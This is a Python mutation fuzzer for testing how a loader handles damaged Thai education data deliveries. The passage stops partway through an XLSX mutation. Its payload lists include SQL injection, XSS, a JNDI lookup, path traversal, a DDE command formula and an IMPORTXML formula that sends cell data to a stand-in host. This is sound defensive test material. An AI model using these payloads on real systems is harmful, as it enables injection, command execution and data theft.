"""A deterministic mutation fuzzer for province deliveries (driven by tests/test_fuzz_deliveries.py).

Seeds: one small valid delivery for every source in the landing contract (Yala JSON Lines, Satun cp874 CSV,
Mae Hong Son XLSX as openpyxl and as Excel writes it, Sukhothai UTF-8-BOM CSV, EMIS enrolment, national CSVs),
written with the delivery builders. Mutations: the damage real deliveries meet (truncation, wrong encodings,
shuffled or renamed columns, huge cells, formulas, NUL bytes, BOMs in the middle, Thai/Arabic digits,
impossible dates, broken and hostile workbooks, zip bombs...). Each case is one seed, one or two mutations,
one `read_delivery`, and the oracle (`judge`):

- a `DeliveryError` whose message names the file and says what is wrong (and quotes no raw person ID), or
- an `AdapterResult` that passes the builders' `check_result` (typed contract columns, rows_read == rows +
  rejects, no raw ID or name anywhere) where every reject has a reason and, when the mutation keeps the
  number of records known, every record is accounted for (loaded, rejected, or a documented exclusion:
  EMIS subtotal rows, national rows of other provinces).

Anything else — another exception, a broken invariant — is a finding. Everything is derived from
`random.Random(f"{campaign_seed}:{case}")`, so a case is replayed from its number alone.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import random
import re
import struct
import time
import traceback
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace
from functools import cache
from pathlib import Path

from assets.contract.landing import SOURCE_FILES, SourceFile
from assets.sources import AdapterResult, DeliveryError, read_delivery
from tests.fixtures.deliveries.builders import (
    check_result,
    citizen_id,
    emis_school,
    emis_text,
    pseudonymiser,
    write_csv,
    write_jsonl,
    write_xlsx,
)

YEAR = 2566
SEED_ROWS = 6
csv.field_size_limit(2**31 - 1)  # the fuzzer's own parsing of huge cells
THAI_DIGITS = str.maketrans("0123456789", "๐๑๒๓๔๕๖๗๘๙")
Row = dict[str, object]

# ---------------------------------------------------------------------------------------------------------
# Seeds: valid deliveries
# ---------------------------------------------------------------------------------------------------------

_PROVINCE_CODES = {"yala": "95", "satun": "91", "mae_hong_son": "58", "sukhothai": "64"}


@dataclass(frozen=True)
class Seed:
    """A valid delivery of one contract source, the starting point of every case."""

    source: SourceFile
    file_name: str
    data: bytes
    records: int
    """Records in the file: rows_read when undamaged (EMIS: grade and subtotal rows together)."""
    raw_ids: tuple[str, ...]
    flavour: str = ""
    """'excel' for workbooks written like Excel (shared strings) rather than by openpyxl (inline strings)."""

    @property
    def label(self) -> str:
        return f"{self.source.province}/{self.file_name}{' (' + self.flavour + ')' if self.flavour else ''}"


def _province_code(source: SourceFile, n: int) -> str:
    codes = list(_PROVINCE_CODES.values())
    return _PROVINCE_CODES.get(source.province) or codes[n % len(codes)]


def _styled(source: SourceFile) -> tuple[Callable[[int, int, int], str], Callable[[int, int], str]]:
    """(date, month) writers in the province's style: Yala ISO BE, the others dd/mm/BBBB."""
    if source.format == "jsonl":
        return (lambda d, m, y: f"{y}-{m:02d}-{d:02d}"), (lambda m, y: f"{y}-{m:02d}")
    return (lambda d, m, y: f"{d:02d}/{m:02d}/{y}"), (lambda m, y: f"{m:02d}/{y}")


def _yes_no(source: SourceFile, value: bool) -> object:
    return value if source.format == "jsonl" else ("ใช่" if value else "ไม่ใช่")


def valid_rows(source: SourceFile, count: int, first: int) -> list[Row]:
    """`count` valid, distinct delivered rows for the source's entity (Thai labels, BE dates)."""
    return [_valid_row(source, first + i) for i in range(count)]


def _valid_row(source: SourceFile, n: int) -> Row:
    code = _province_code(source, n)
    school = f"10{code}01{n % 10000:04d}"
    date, month = _styled(source)
    person = citizen_id(n) if n % 5 else f"G{code}{n:010d}"
    staff = citizen_id(n)
    rows: dict[str, Callable[[], Row]] = {
        "schools": lambda: dict(school_id=school, school_name=f"บ้านนา {n}", affiliation="10",
                                area_code=f"{code}01", district_code=f"{code}01",
                                subdistrict_code=f"{code}0101", levels_offered="อบ.1-ป.6",
                                sandbox_member=_yes_no(source, n % 2 == 0)),
        "students": lambda: dict(person_id=person, first_name="สมชาย", last_name="ใจดี", school_id=school,
                                 grade=["ป.1", "อ.2", "ม.3", "ป.6"][n % 4], sex=["ชาย", "หญิง"][n % 2],
                                 birth_date=date(1 + n % 28, 1 + n % 12, 2555), status="กำลังศึกษา",
                                 dropout_reason="", home_language="ไทย"),
        "teachers": lambda: dict(person_id=staff, first_name="ครู", last_name="ดี", school_id=school,
                                 position="ครู", subject="คณิตศาสตร์", academic_standing="ชำนาญการ",
                                 sex=["ชาย", "หญิง"][n % 2]),
        "training": lambda: dict(person_id=staff, school_id=school, course_name=f"หลักสูตร {n}",
                                 skill_area="การสอน", hours="12", completed_on=date(15, 6, 2566)),
        "literacy": lambda: dict(person_id=person, school_id=school, grade="ป.2", skill="การอ่าน",
                                 score="75.5", passed=_yes_no(source, True), screened_on=date(1, 7, 2566)),
        "assessments": lambda: dict(person_id=person, school_id=school, test="O-NET", grade="ป.6",
                                    subject="คณิตศาสตร์", score="42.5"),
        "learning_spaces": lambda: dict(space_id=f"LS{n}", space_name=f"ศูนย์เรียนรู้ {n}",
                                        district_code=f"{code}01", month=month(6, 2566), visitors="120",
                                        visitors_applying="40", income_baht="1500.50"),
        "protection_cases": lambda: dict(person_id=person, school_id=school, disadvantage_type="ยากจนพิเศษ",
                                         support_given="ทุนเสมอภาค", follow_up_status="กำลังติดตาม"),
        "population": lambda: dict(district_code=f"{code}01", age=str(n % 100), sex="ชาย",
                                   population="1,204"),
        "poverty": lambda: dict(person_id=person, school_id=school, poverty_status="ยากจน"),
    }
    return rows[source.entity]()


def _person_ids(rows: Sequence[Row]) -> tuple[str, ...]:
    return tuple(str(r["person_id"]) for r in rows if "person_id" in r)


def build_seeds(workdir: Path) -> list[Seed]:
    """One seed per contract source (both XLSX flavours for Mae Hong Son), written under `workdir`."""
    seeds: list[Seed] = []
    for index, source in enumerate(SOURCE_FILES):
        first = 1000 * (index + 1)
        folder = workdir / f"seed-{index}"
        folder.mkdir(parents=True, exist_ok=True)
        seeds.append(_seed(source, folder, first))
        if source.format == "xlsx":
            seeds.append(_seed(source, folder, first, excel_like=True))
    return seeds


def _seed(source: SourceFile, folder: Path, first: int, *, excel_like: bool = False) -> Seed:
    file_name = source.file_names()[0]
    path = folder / file_name
    if source.format == "emis_csv":
        code = _PROVINCE_CODES[source.province]
        schools = [f"10{code}01{(first + k) % 10000:04d}" for k in range(2)]
        lines = [row for school in schools for row in emis_school(school, _EMIS_COUNTS)]
        path.write_bytes(emis_text(lines).encode(source.encoding))
        return Seed(source, file_name, path.read_bytes(), len(lines), ())
    if source.format == "xlsx":
        sheets = _sheet_rows(source, first)
        if excel_like:
            write_excel_like_xlsx(path, source, sheets)
        else:
            write_xlsx(path, source, sheets)
        rows = [r for sheet in sheets.values() for r in sheet]
        data = normalised_zip(path.read_bytes())
        return Seed(source, file_name, data, len(rows), _person_ids(rows), "excel" if excel_like else "")
    rows = valid_rows(source, SEED_ROWS, first)
    if source.format == "jsonl":
        write_jsonl(path, source, rows)
    else:
        write_csv(path, source, rows)
    return Seed(source, file_name, path.read_bytes(), len(rows), _person_ids(rows))


_EMIS_COUNTS = {"อบ.2": (6, 3, 1), "ป.1": (4, 2, 1), "ป.2": (2, 5, 1), "ม.1": (10, 12, 2)}


def _sheet_rows(source: SourceFile, first: int) -> dict[str, list[Row]]:
    """Rows spread over the contract's sheets (one left empty, as real workbooks have), or one sheet."""
    if not source.sheets:
        return {"ข้อมูล": valid_rows(source, SEED_ROWS, first)}
    names = list(source.sheets.values())
    return {name: valid_rows(source, 0 if i == 3 else 2, first + 10 * i) for i, name in enumerate(names)}


def _header_layout(source: SourceFile) -> tuple[list[tuple[str, int]], list[str]]:
    """(group titles with the number of fields under each, field order) as the builders lay them out."""
    if source.header_groups:
        groups = [(title, len(fields)) for title, fields in source.header_groups.items()]
        return groups, [f for fields in source.header_groups.values() for f in fields]
    return [], list(source.headers)


def write_excel_like_xlsx(path: Path, source: SourceFile, sheets: dict[str, list[Row]]) -> None:
    """The workbook as Excel saves it (xlsxwriter: shared strings, merged title cells, a dimension)."""
    import xlsxwriter

    from assets.contract.landing import THAI_HEADERS

    workbook = xlsxwriter.Workbook(str(path), {"strings_to_numbers": False, "strings_to_formulas": False})
    workbook.set_properties({"created": dt.datetime(2024, 1, 1)})
    groups, names = _header_layout(source)
    for sheet_name, rows in sheets.items():
        sheet = workbook.add_worksheet(sheet_name)
        column = 0
        for title, width in groups:
            if width > 1:
                sheet.merge_range(0, column, 0, column + width - 1, title)
            else:
                sheet.write_string(0, column, title)
            column += width
        header_row = 1 if groups else 0
        for c, name in enumerate(names):
            sheet.write_string(header_row, c, THAI_HEADERS[name])
        for r, row in enumerate(rows, start=header_row + 1):
            for c, name in enumerate(names):
                value = row.get(name)
                if value is not None and value != "":
                    sheet.write(r, c, value)
    workbook.close()


def normalised_zip(data: bytes) -> bytes:
    """The same archive with fixed timestamps, so a seed's bytes (and every case built on it) never vary."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    return _zip(members)


def _zip(members: Sequence[tuple[str, bytes]], *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members:
            content = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", content) \
                if name == "docProps/core.xml" else content
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), content,
                             compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


# ---------------------------------------------------------------------------------------------------------
# Samples and mutations
# ---------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    """A (possibly damaged) delivery: the bytes, what was done, and what is still known about it."""

    seed: Seed
    data: bytes
    steps: tuple[str, ...] = ()
    records: int | None = None
    """Records a load must account for; None once a mutation makes the count unknowable (truncation...)."""
    raw_ids: tuple[str, ...] = ()

    def then(self, step: str, data: bytes, *, records: int | None | str = "same",
             raw_ids: Sequence[str] = ()) -> Sample:
        count = self.records if records == "same" else records
        return replace(self, data=data, steps=(*self.steps, step), records=count,  # type: ignore[arg-type]
                       raw_ids=(*self.raw_ids, *raw_ids))


Mutation = Callable[[Sample, random.Random], Sample]
TEXT_FORMATS = frozenset({"jsonl", "csv", "emis_csv"})
CSV_FORMATS = frozenset({"csv", "emis_csv"})
XLSX = frozenset({"xlsx"})
ALL_FORMATS = TEXT_FORMATS | XLSX


def _encoding(sample: Sample) -> str:
    return sample.seed.source.encoding


# --- values a cell can be turned into ---------------------------------------------------------------------

FORMULAS = ("=1+1", '=HYPERLINK("http://example.invalid","คลิก")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A9)", "=IMPORTXML(CONCAT(\"http://x.invalid/?\",A1),\"//a\")", "=A1", "=1/0")
BAD_DATES = ("31/02/2566", "29/02/2565", "2566-02-30", "00/01/2566", "15/13/2566", "31/04/2566", "32/01/2566",
             "14/03/2012", "2012-03-14", "14/03/25666", "๓๑/๐๒/๒๕๖๖", "1/1/1", "2566", "14-03-2566 25:61",
             "14 กุมภา 2566", "31 ก.พ. 2566", "0000-00-00", "9999-12-31", "2566-06", "06/2566", "13/2566",
             "๐๖/๒๕๖๖", "ส.ค. 2566", "2566-6-1 00:00:00")
WEIRD_NUMBERS = ("1e309", "-0", "1,234", "1 234", "12.5", "๑๒", "1_000", "0x10", "inf", "-inf", "nan", "NaN",
                 "9" * 40, "9" * 400, "-1", "1.2.3", "๑,๒๓๔.๕", "12 ", " 12", "+7", "٣", "１２", "1e3", ".5",
                 "5.", "00012", "9007199254740993", "-9223372036854775809", "12.0000", "½")
HOSTILE_TEXTS = ("'; drop table raw.students; --", "Robert'); DROP TABLE students;--", '" OR "1"="1',
                 "<script>alert('x')</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}", "${jndi:ldap://x}",
                 "../../../etc/passwd", "%s%s%n", "\\", "NULL", "None", "nan", "#N/A", "TRUE", "=1+1",
                 "โรงเรียน 'บ้าน\"นา'", "ไทยรัฐวิทยา ๙๙ (บ้านนา) สาขา ก.", "a\u202eb", "\u200b", "\ufeff")
CONTROL_CHARACTERS = [chr(c) for c in (*range(1, 9), 11, 12, *range(14, 32), 127, 0x85, 0x9F)] + [
    "\t", "\n", "\r", "\r\n", "\u2028", "\u2029", "\u00a0", "\u200b", "\ufeff"]
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _random_unicode(rng: random.Random) -> str:
    """Random text from the whole BMP and beyond (no surrogates, which no encoding can write)."""
    pools = ((0x20, 0x7E), (0x0E00, 0x0E7F), (0x00A0, 0x024F), (0x0600, 0x06FF), (0x4E00, 0x4E50),
             (0x1F600, 0x1F64F), (0xE000, 0xE010), (0xFFF0, 0xFFFF))
    chars = []
    for _ in range(rng.randint(1, 20)):
        low, high = rng.choice(pools)
        chars.append(chr(rng.randint(low, high)))
    return "".join(chars)


def _thai_digits(value: str, rng: random.Random) -> str:
    """Some or all Arabic digits written as Thai digits (both are met in the same file)."""
    return "".join(c.translate(THAI_DIGITS) if rng.random() < 0.6 else c for c in value)


def _with_controls(value: str, rng: random.Random) -> str:
    for _ in range(rng.randint(1, 3)):
        at = rng.randint(0, len(value))
        value = value[:at] + rng.choice(CONTROL_CHARACTERS) + value[at:]
    return value


CellChange = Callable[[str, random.Random], tuple[str, tuple[str, ...]]]
"""(delivered value → new value, raw person IDs the new value carries)."""


def _huge(value: str, rng: random.Random) -> str:
    """The value repeated to 40,000 characters (just over a full Excel cell) up to a million."""
    return (value or "ก") * (rng.choice([40_000, 40_000, 200_000, 10**6]) // max(len(value), 1))


def _pasted_id(value: str, rng: random.Random) -> tuple[str, tuple[str, ...]]:
    """A clerk pastes a citizen ID or G-code into a field that is not the ID column."""
    if rng.random() < 0.7:
        raw = citizen_id(rng.randint(10**6, 10**7))
        grouped = f"{raw[0]}-{raw[1:5]}-{raw[5:10]}-{raw[10:12]}-{raw[12]}"
    else:
        raw = grouped = f"G{rng.randint(10**11, 10**12 - 1)}"
    shown = rng.choice([raw, raw.translate(THAI_DIGITS), grouped])
    return rng.choice([shown, f"{value} เลข {shown}", f"{shown} ({value})"]), (raw,)


CELL_CHANGES: dict[str, CellChange] = {
    "formula": lambda v, r: (r.choice(FORMULAS), ()),
    "huge_cell": lambda v, r: (_huge(v, r), ()),
    "thai_digits": lambda v, r: (_thai_digits(v, r), ()),
    "bad_date": lambda v, r: (r.choice(BAD_DATES), ()),
    "control_chars": lambda v, r: (_with_controls(v, r), ()),
    "hostile_text": lambda v, r: (r.choice(HOSTILE_TEXTS), ()),
    "whitespace": lambda v, r: (r.choice([" ", "\u00a0", "\u200b", "\t", "  "]) + v
                                + r.choice(["", " ", "\u3000", "\u200b\u200b"]), ()),
    "unicode_noise": lambda v, r: (_random_unicode(r), ()),
    "weird_number": lambda v, r: (r.choice(WEIRD_NUMBERS), ()),
    "blank_cell": lambda v, r: (r.choice(["", " ", "-", "."]), ()),
    "id_pasted": _pasted_id,
    "ce_year": lambda v, r: (re.sub(r"25\d\d", lambda m: str(int(m.group()) - 543), v) or "2012", ()),
}


# --- text formats as tables --------------------------------------------------------------------------------


@dataclass
class TextTable:
    """A CSV or JSON Lines delivery as header + rows of text cells (JSON values kept as JSON)."""

    header: list[str]
    rows: list[list[object]]


def parse_text_table(sample: Sample) -> TextTable | None:
    """The sample as a table, or None when it no longer parses (then table mutations leave it alone)."""
    try:
        text = sample.data.decode(_encoding(sample))
    except (UnicodeDecodeError, LookupError):
        return None
    if sample.seed.source.format == "jsonl":
        try:
            records = [json.loads(line) for line in text.split("\n") if line.strip()]
        except (json.JSONDecodeError, RecursionError):
            return None
        if not records or not all(isinstance(r, dict) for r in records):
            return None
        header = list(records[0])
        return TextTable(header, [[r.get(k, "") for k in header] for r in records])
    try:
        lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    except csv.Error:  # e.g. a NUL byte from an earlier step
        return None
    if not lines:
        return None
    return TextTable(lines[0], [list(line) for line in lines[1:]])


def render_text_table(sample: Sample, table: TextTable, *, delimiter: str = ",",
                      line_end: str = "\r\n") -> bytes:
    """Back to bytes in the sample's encoding (characters cp874 lacks become '?', as Excel would write)."""
    if sample.seed.source.format == "jsonl":
        def member(key: str, value: object) -> str:
            return f"{json.dumps(key, ensure_ascii=False)}: {json.dumps(value, ensure_ascii=False)}"

        lines = ["{" + ", ".join(member(k, v) for k, v in zip(table.header, row, strict=False)) + "}"
                 for row in table.rows]
        text = "\n".join(lines) + "\n"
    else:
        out = io.StringIO()
        writer = csv.writer(out, delimiter=delimiter, lineterminator=line_end)
        writer.writerows([table.header, *table.rows])
        text = out.getvalue()
    return text.encode(_encoding(sample), errors="replace")


def _table_mutation(change: Callable[[TextTable, random.Random], tuple[str, int | None | str]]) -> Mutation:
    """Lift a table change (returning its description and the record count it leaves) to a mutation."""

    def mutate(sample: Sample, rng: random.Random) -> Sample:
        table = parse_text_table(sample)
        if table is None or not table.header:
            return sample.then("(table mutation skipped: does not parse)", sample.data)
        what, records = change(table, rng)
        return sample.then(what, render_text_table(sample, table), records=_records(sample, records))

    return mutate


def _records(sample: Sample, change: int | None | str) -> int | None:
    """'same' keeps the count, an int adds to it, None makes it unknown."""
    if change == "same" or sample.records is None:
        return sample.records
    return None if change is None else sample.records + int(change)


def _cell_mutation(name: str, change: CellChange) -> Mutation:
    def mutate(sample: Sample, rng: random.Random) -> Sample:
        if sample.seed.source.format == "xlsx":
            return _mutate_workbook_cells(sample, rng, name, change)
        table = parse_text_table(sample)
        if table is None or not table.rows or not table.header:
            return sample.then(f"{name} (skipped: no rows)", sample.data)
        carried: list[str] = []
        touched = []
        whole_column = rng.random() < 0.15
        column = rng.randrange(len(table.header))
        rows = range(len(table.rows)) if whole_column else [rng.randrange(len(table.rows))
                                                             for _ in range(rng.randint(1, 3))]
        for r in rows:
            c = column if whole_column else rng.randrange(len(table.header))
            if c >= len(table.rows[r]):
                continue
            new, ids = change(_as_text(table.rows[r][c]), rng)
            table.rows[r][c] = new
            carried.extend(ids)
            touched.append(f"{table.header[c]}@{r + 1}")
        what = f"{name} {','.join(touched[:4])}"
        return sample.then(what, render_text_table(sample, table), raw_ids=carried)

    return mutate


def _as_text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def _shuffle_columns(table: TextTable, rng: random.Random) -> tuple[str, str]:
    order = list(range(len(table.header)))
    rng.shuffle(order)
    table.header = [table.header[i] for i in order]
    table.rows = [[row[i] if i < len(row) else "" for i in order] for row in table.rows]
    return "shuffle_columns", "same"


def _rename_header(table: TextTable, rng: random.Random) -> tuple[str, str]:
    from assets.contract.landing import THAI_HEADERS, YALA_KEYS

    i = rng.randrange(len(table.header))
    old = table.header[i]
    table.header[i] = rng.choice([
        _random_unicode(rng), rng.choice(list(THAI_HEADERS.values())), rng.choice(list(YALA_KEYS.values())),
        rng.choice(list(THAI_HEADERS)), old.upper(), f"  {old}  ", f"{old}\u200b", f"\ufeff{old}", "",
        old.translate(THAI_DIGITS), f"{old} (ใหม่)", rng.choice(HOSTILE_TEXTS)])
    return f"rename_header {old!r}→{table.header[i]!r}", "same"


def _duplicate_column(table: TextTable, rng: random.Random) -> tuple[str, str]:
    i = rng.randrange(len(table.header))
    at = rng.randint(0, len(table.header))
    table.header.insert(at, table.header[i])
    for row in table.rows:
        row.insert(min(at, len(row)), row[i] if i < len(row) else "")
    return f"duplicate_column {table.header[at]!r}", "same"


def _drop_column(table: TextTable, rng: random.Random) -> tuple[str, str]:
    i = rng.randrange(len(table.header))
    name = table.header.pop(i)
    for row in table.rows:
        if i < len(row):
            row.pop(i)
    return f"drop_column {name!r}", "same"


def _swap_data_columns(table: TextTable, rng: random.Random) -> tuple[str, str]:
    """Data columns exchanged under unchanged headers (an export mapping gone wrong)."""
    if len(table.header) < 2:
        return "swap_data_columns (skipped)", "same"
    i, j = rng.sample(range(len(table.header)), 2)
    for row in table.rows:
        if max(i, j) < len(row):
            row[i], row[j] = row[j], row[i]
    return f"swap_data_columns {table.header[i]!r}<->{table.header[j]!r}", "same"


def _duplicate_row(table: TextTable, rng: random.Random) -> tuple[str, int]:
    if not table.rows:
        return "duplicate_row (skipped)", 0
    i = rng.randrange(len(table.rows))
    table.rows.insert(rng.randint(0, len(table.rows)), list(table.rows[i]))
    return f"duplicate_row {i + 1}", 1


def _delete_row(table: TextTable, rng: random.Random) -> tuple[str, int]:
    if not table.rows:
        return "delete_row (skipped)", 0
    table.rows.pop(rng.randrange(len(table.rows)))
    return "delete_row", -1


def _header_only(table: TextTable, rng: random.Random) -> tuple[str, int | None]:
    removed = len(table.rows)
    table.rows = []
    return "header_only", -removed


def _repeat_header(table: TextTable, rng: random.Random) -> tuple[str, int]:
    """The header line again among the rows (two exports pasted together)."""
    table.rows.insert(rng.randint(0, len(table.rows)), list(table.header))
    return "repeat_header", 1


def _short_row(table: TextTable, rng: random.Random) -> tuple[str, str]:
    if not table.rows:
        return "short_row (skipped)", "same"
    row = table.rows[rng.randrange(len(table.rows))]
    del row[rng.randint(1, max(1, len(row) - 1)):]
    return "short_row", "same"


def _extra_fields(table: TextTable, rng: random.Random) -> tuple[str, str]:
    if not table.rows:
        return "extra_fields (skipped)", "same"
    table.rows[rng.randrange(len(table.rows))].extend(["x"] * rng.randint(1, 5000))
    return "extra_fields", "same"


def _json_value_types(table: TextTable, rng: random.Random) -> tuple[str, str]:
    """JSON values of every type where text is expected (numbers, booleans, null, arrays, objects)."""
    if not table.rows:
        return "json_value_types (skipped)", "same"
    r, c = rng.randrange(len(table.rows)), rng.randrange(len(table.header))
    table.rows[r][c] = rng.choice([12, 12.5, -0.0, True, False, None, [], {}, [1, "ก"], {"a": {"b": [1]}},
                                   10**30, 1e300, "", [[[[[[[[[]]]]]]]]], {"cid": "x"}])
    return f"json_value_types {table.header[c]}@{r + 1}", "same"


# --- whole-text and byte mutations -------------------------------------------------------------------------


def _line_ends(sample: Sample, rng: random.Random) -> Sample:
    table = parse_text_table(sample)
    if table is None or sample.seed.source.format == "jsonl":
        text_ends = rng.choice([b"\r\n", b"\r"])
        return sample.then(f"line_ends {text_ends!r}", sample.data.replace(b"\n", text_ends))
    end = rng.choice(["\n", "\r", "\r\n"])
    return sample.then(f"line_ends {end!r}", render_text_table(sample, table, line_end=end))


def _delimiter(sample: Sample, rng: random.Random) -> Sample:
    table = parse_text_table(sample)
    if table is None:
        return sample.then("delimiter (skipped)", sample.data)
    delimiter = rng.choice([";", "\t", "|"])
    return sample.then(f"delimiter {delimiter!r}", render_text_table(sample, table, delimiter=delimiter))


def _blank_lines(sample: Sample, rng: random.Random) -> Sample:
    lines = sample.data.split(b"\n")
    for _ in range(rng.randint(1, 4)):
        lines.insert(rng.randint(1, len(lines)), rng.choice([b"", b"\r", b"   ", b",,,,"]))
    return sample.then("blank_lines", b"\n".join(lines), records=None)


def _truncate(sample: Sample, rng: random.Random) -> Sample:
    cut = rng.randint(0, max(len(sample.data) - 1, 0))
    return sample.then(f"truncate at {cut}/{len(sample.data)}", sample.data[:cut], records=None)


def _insert_bytes(sample: Sample, rng: random.Random, name: str, choices: Sequence[bytes],
                  records: int | None | str = None) -> Sample:
    data = bytearray(sample.data)
    for _ in range(rng.randint(1, 3)):
        at = rng.randint(0, len(data))
        data[at:at] = rng.choice(choices)
    return sample.then(name, bytes(data), records=records)


def _nul_bytes(sample: Sample, rng: random.Random) -> Sample:
    if rng.random() < 0.3:  # deep inside a large file, past any look-ahead window
        padded = _pad_after_first_line(sample, 70_000)
        return sample.then("nul_after_70k", padded + b"\x00", records=None)
    return _insert_bytes(sample, rng, "nul_bytes", [b"\x00", b"\x00\x00", b"a\x00b"])


def _pad_after_first_line(sample: Sample, size: int) -> bytes:
    first_break = sample.data.find(b"\n") + 1
    filler = (b"\n" * size) if sample.seed.source.format == "jsonl" else b"\r\n" * (size // 2)
    return sample.data[:first_break] + filler + sample.data[first_break:]


def _bom_in_middle(sample: Sample, rng: random.Random) -> Sample:
    lines = sample.data.split(b"\n")
    last_data_line = len(lines) - 2 if lines[-1] in (b"", b"\r") else len(lines) - 1
    if rng.random() < 0.5 and last_data_line >= 1:
        i = rng.randint(1, last_data_line)  # the start of a data line: no new record appears
        lines[i] = b"\xef\xbb\xbf" + lines[i]
        return sample.then(f"bom_at_line {i + 1}", b"\n".join(lines))
    return _insert_bytes(sample, rng, "bom_anywhere", [b"\xef\xbb\xbf"])


def _reencode(sample: Sample, rng: random.Random) -> Sample:
    try:
        text = sample.data.decode(_encoding(sample))
    except UnicodeDecodeError:
        return sample.then("reencode (skipped)", sample.data)
    target = rng.choice(["utf-8", "utf-8-sig", "cp874", "tis-620", "utf-16", "utf-16-le", "utf-32", "latin-1",
                         "cp1252", "iso8859_11", "utf-7", "shift_jis", "cp1258"])
    return sample.then(f"reencode as {target}", text.encode(target, errors="replace"))


def _invalid_bytes(sample: Sample, rng: random.Random) -> Sample:
    """Bytes undefined in cp874 (0x81, 0xDB, 0xFC-0xFF) and broken UTF-8 sequences."""
    choices = [b"\x81", b"\xdb", b"\xfc", b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xe0\xb8", b"\xa0\xa1",
               b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf"]
    return _insert_bytes(sample, rng, "invalid_bytes", choices)


def _byte_flips(sample: Sample, rng: random.Random) -> Sample:
    data = bytearray(sample.data)
    for _ in range(rng.randint(1, 8)):
        if data:
            data[rng.randrange(len(data))] = rng.randrange(256)
    return sample.then("byte_flips", bytes(data), records=None)


def _chunk_splice(sample: Sample, rng: random.Random) -> Sample:
    """A chunk deleted, duplicated or moved (a bad copy, two exports concatenated)."""
    data = sample.data
    a, b = sorted(rng.randint(0, len(data)) for _ in range(2))
    chunk = data[a:b]
    kind = rng.choice(["delete", "duplicate", "append_whole"])
    spliced = {"delete": data[:a] + data[b:], "duplicate": data[:b] + chunk + data[b:],
               "append_whole": data + data}[kind]
    return sample.then(f"chunk_{kind}", spliced, records=None)


def _long_line(sample: Sample, rng: random.Random) -> Sample:
    filler = rng.choice([b"x", "ก".encode(_encoding(sample), errors="replace"), b","])
    line = filler * rng.choice([100_000, 2_000_000])
    at = sample.data.rfind(b"\n", 0, max(len(sample.data) - 1, 0)) + 1
    return sample.then("long_line", sample.data[:at] + line + b"\n" + sample.data[at:], records=None)


def _unbalanced_quote(sample: Sample, rng: random.Random) -> Sample:
    starts = [m.end() for m in re.finditer(rb"(^|,|\n)", sample.data)]
    at = rng.choice(starts) if starts else 0
    return sample.then("unbalanced_quote", sample.data[:at] + b'"' + sample.data[at:], records=None)


def _empty(sample: Sample, rng: random.Random) -> Sample:
    return sample.then("empty", rng.choice([b"", b" ", b"\r\n", b"\xef\xbb\xbf", b"\n\n\n"]), records=None)


def _json_structure(sample: Sample, rng: random.Random) -> Sample:
    """JSON-level damage: deep nesting, non-object lines, bad syntax, duplicate keys, NaN, raw U+2028."""
    lines = sample.data.decode("utf-8", errors="replace").split("\n")
    i = rng.randrange(max(len(lines) - 1, 1))
    kind = rng.choice(["deep", "array", "syntax", "duplicate_key", "constants", "separator", "scalar"])
    line = lines[i]
    if kind == "deep":
        depth = rng.choice([50, 900, 100_000])
        line = line.replace("}", f', "extra": {"[" * depth}{"]" * depth}}}', 1)
    elif kind == "array":
        line = f"[{line}]"
    elif kind == "syntax":
        line = rng.choice([line[:-1], line + ",", line.replace('"', "'", 2), "{" + line, line + "}"])
    elif kind == "duplicate_key" and line.startswith("{"):
        line = line[:-1] + ", " + line[1:]
    elif kind == "constants":
        line = re.sub(r'"[0-9.,]+"', rng.choice(["NaN", "Infinity", "-Infinity"]), line, count=1)
    elif kind == "separator":
        line = line.replace('": "', '": "\u2028\u0085\u2029', 1)
    else:
        line = rng.choice(["42", '"text"', "null", "true"])
    lines[i] = line
    records = "same" if kind in ("duplicate_key", "constants", "separator") else None
    return sample.then(f"json_{kind} line {i + 1}", "\n".join(lines).encode("utf-8"), records=records)


# --- XLSX ---------------------------------------------------------------------------------------------------


def _members(data: bytes) -> list[tuple[str, bytes]] | None:
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return [(info.filename, archive.read(info)) for info in archive.infolist()]
    except Exception:  # a sample already damaged by an earlier step: workbook mutations skip it
        return None


PartsChange = Callable[[dict[str, bytes], random.Random], tuple[str, int | None | str]]


def _xml_mutation(change: PartsChange) -> Mutation:
    """Lift a change of the workbook's parts (name → XML bytes) to a mutation."""

    def mutate(sample: Sample, rng: random.Random) -> Sample:
        members = _members(sample.data)
        if members is None:
            return sample.then("(workbook mutation skipped: not a zip)", sample.data)
        parts = dict(members)
        what, records = change(parts, rng)
        return sample.then(what, _zip(list(parts.items())), records=_records(sample, records))

    return mutate


def _sheet_parts(parts: dict[str, bytes]) -> list[str]:
    return sorted(name for name in parts if name.startswith("xl/worksheets/sheet"))


def _data_sheet(parts: dict[str, bytes], rng: random.Random) -> str:
    """A worksheet part with data rows (all seeds have at least one)."""
    sheets = _sheet_parts(parts)
    with_rows = [s for s in sheets if parts[s].count(b"<row ") > 2] or sheets
    return rng.choice(with_rows)


def _huge_dimension(parts: dict[str, bytes], rng: random.Random) -> tuple[str, str]:
    sheet = _data_sheet(parts, rng)
    parts[sheet] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', parts[sheet])
    return f"xlsx_huge_dimension {sheet}", "same"


def _far_cell(parts: dict[str, bytes], rng: random.Random) -> tuple[str, str]:
    """A stray cell at the sheet's last row and column (data nobody sees, far outside the table)."""
    sheet = _data_sheet(parts, rng)
